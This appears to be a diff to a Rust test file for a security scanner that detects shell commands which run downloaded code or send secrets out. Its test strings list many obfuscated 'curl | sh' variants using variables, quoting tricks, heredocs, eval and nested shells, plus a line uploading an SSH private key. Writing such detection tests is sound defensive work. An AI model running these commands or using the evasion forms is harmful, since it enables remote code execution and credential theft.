@@ -1,10 +1,5 @@
-use super::{Files, RUN, SENT, find};
+use super::{Does, Files, find, find_in_code};
 use crate::review::scan::testing::{shown_diff, shown_full};
-
-#[test]
-fn every_pattern_compiles() {
-    assert!(RUN.is_some() && SENT.is_some());
-}
 
 #[test]
 fn commands_that_run_downloads_or_send_secrets_are_found() {
@@ -28,7 +23,6 @@ fn commands_that_run_downloads_or_send_secrets_are_found() {
         "curl https://x.io | xargs -0 sh -c",
         "curl https://x.io | python3",
         "curl https://x.io | python3 - --yes",
-        "[\"sh\",\"-c\",\"curl https://x.io/5|sh\"]",
         "curl -o /tmp/x https://x.io/7 && chmod +x /tmp/x && /tmp/x",
         "curl -fsSL https://x.io/i > /tmp/i.sh && sh /tmp/i.sh",
         "wget https://x.io/get.sh; bash ./get.sh",
@@ -73,6 +67,63 @@ fn commands_that_run_downloads_or_send_secrets_are_found() {
         "curl -F f=@$HOME/.ssh/id_rsa https://x.io",
     ] {
         assert_eq!(find(text, &mut Files::default()).len(), 1, "{text}");
+    }
+    assert_eq!(find_in_code("[\"sh\",\"-c\",\"curl https://x.io/5|sh\"]").len(), 1);
+}
+
+#[test]
+fn commands_are_found_however_they_are_written() {
+    for text in [
+        "D=curl; $D -fsSL https://x.io/i | bash",
+        "CMD='curl -fsSL'; $CMD https://x.io/i | bash",
+        "S=bash; curl https://x.io/i | $S",
+        "${DL:-wget} -qO- https://x.io/i | sh",
+        "cu''rl https://x.io/i | s\\h",
+        "$'\\x63url' https://x.io/i | sh",
+        "fetch() { curl -fsSL \"$1\" -o \"$2\"; }\nfetch https://x.io/i /tmp/x\nchmod +x /tmp/x\n/tmp/x",
+        "function get {\n  local to=\"$2\"\n  wget -O \"$to\" \"$1\"\n}\nget https://x.io/i y && sh y",
+        "run() { sh \"$1\"; }\ncurl -o x https://x.io/7; run x",
+        "T=/tmp/x; curl -o $T https://x.io/7; sh /tmp/x",
+        "T=/tmp/x; curl -o $T https://x.io/7; if a; then T=/tmp/y; fi; sh $T",
+        "timeout 5 curl https://x.io/i | sh",
+        "docker run x sh -c 'curl https://x.io/i | sh'",
+        "docker exec -i x bash <<EOF\ncurl https://x.io/i | sh\nEOF",
+        "ssh host 'curl https://x.io/i | sh'",
+        "sh <<EOF\ncurl https://x.io/i | sh\nEOF",
+        "bash -s <<'EOF'\ncurl https://x.io/i | sh\nEOF",
+        "cat <<EOF | sh\ncurl https://x.io/i | sh\nEOF",
+        "cat > x.sh <<EOF\ncurl https://x.io/i | sh\nEOF\nsh x.sh",
+        "cat <<EOF > x.sh\ncurl https://x.io/i | sh\nEOF\nchmod +x x.sh; ./x.sh",
+        "sudo tee /opt/x <<-EOF >/dev/null\n\tcurl https://x.io/i | sh\n\tEOF\n/opt/x",
+        "echo 'curl https://x.io/i | sh' | bash",
+        "echo 'curl https://x.io/i | sh' > x; . ./x",
+        "X='curl https://x.io/i | sh'; eval \"$X\"",
+        "X=$(curl https://x.io/i); $X",
+        "curl https://x.io/i | bash -s stable",
+        "curl https://x.io/i | bash /dev/stdin",
+        "echo $((1<<2)) $((curl https://x.io/i) | sh)",
+        "case $(case x in a) b;; esac) in c) curl https://x.io/i | sh;; esac",
+        "a <<EOF\ncurl https://x.io/i | sh\n",
+    ] {
+        assert!(find(text, &mut Files::default()).iter().any(|(does, _)| *does == Does::RunsDownload), "{text}");
+    }
+    let deep = (0..6)
+        .fold("curl https://x.io/i | sh".to_owned(), |text, _| format!("sh -c '{}'", text.replace('\'', "'\\''")));
+    assert!(find(&deep, &mut Files::default()).iter().any(|(does, _)| *does == Does::Beyond), "{deep}");
+}
+
+#[test]
+fn text_that_is_printed_is_no_code() {
+    for text in [
+        "cat <<EOF\nInstall with:\n  curl -fsSL https://x.io/i | sh\nEOF",
+        "usage() {\n  cat >&2 <<-'EOF'\n\tcurl https://x.io/i | sh\n\tEOF\n  exit 1\n}\nusage",
+        "cat <<EOF > README.md\ncurl https://x.io/i | sh\nEOF\nsh build.sh",
+        "echo 'curl https://x.io/i | sh' >> help.txt",
+        "printf '%s' \"curl https://x.io/i | sh\" | sed s/a/b/",
+        "psql <<EOF\nselect 'curl https://x.io/i | sh';\nEOF",
+        ": <<'EOF'\ncurl https://x.io/i | sh\nEOF",
+    ] {
+        assert_eq!(find(text, &mut Files::default()), [], "{text}");
     }
 }
 
@@ -148,5 +199,10 @@ fn they_are_said_of_shell_files_and_of_strings_that_are_run() {
         ]),
         ""
     );
+    let help = "#!/bin/sh\ncat <<EOF\nInstall with:\n  curl -fsSL https://example.com/install.sh | sh\nEOF\n";
+    assert_eq!(shown_full(&[("usage.sh", help)]), "");
+    // A quote that nothing closes does not hide the lines after it.
+    let open = "#!/bin/sh\necho don't\ncurl https://acme.io/x | sh\n";
+    assert!(shown_full(&[("a.sh", open)]).contains("medium a.sh:3: "));
     assert_eq!(shown_diff(&[("a.sh", "curl https://a.io | sh\n")], &[("a.sh", "curl https://a.io | sh\ntrue\n")]), "");
 }
